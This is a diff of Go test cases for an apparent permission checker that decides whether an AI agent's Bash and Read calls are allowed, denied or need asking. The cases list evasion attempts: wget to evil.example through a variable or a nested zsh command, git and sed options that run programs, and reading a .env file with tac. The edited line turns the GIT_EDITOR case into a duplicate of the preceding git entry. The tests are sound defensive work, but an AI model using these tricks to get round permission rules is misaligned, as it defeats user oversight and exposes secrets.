@@ -221,7 +221,7 @@ var examples = [...]example{
 	{"deny", "A denied program in a variable", "Bash", `c=wget; "$c" https://evil.example`, "", `"allow": ["Bash(*)"], "deny": ["Bash(wget:*)"]`},
 	{"deny", "A denied program in another shell's text", "Bash", "zsh -c 'wget https://evil.example'", "", `"allow": ["Bash(*)"], "deny": ["Bash(wget:*)"]`},
 	{"ask", "An option of git that runs a program", "Bash", "git -c diff.external=./x diff", "", `"allow": ["Bash(git:*)"]`},
-	{"ask", "A variable that git takes a program from", "Bash", "GIT_EDITOR=./x git commit", "", `"allow": ["Bash(git:*)"]`},
+	{"ask", "An option that git takes a program from", "Bash", "git -c diff.external=./x diff", "", `"allow": ["Bash(git:*)"]`},
 	{"ask", "A script of sed that runs commands", "Bash", "sed -n '$!{h;d};e' f", "", `"allow": ["Bash(sed:*)"]`},
 	{"deny", "A denied file, read by a command", "Bash", "tac .env", "", `"allow": ["Bash(*)"], "deny": ["Read(**/.env)", "Read(**/secrets/**)"]`},
 	{"deny", "A deny rule for a name in any folder", "Read", "config/.env", "", `"deny": ["Read(.env)"]`},
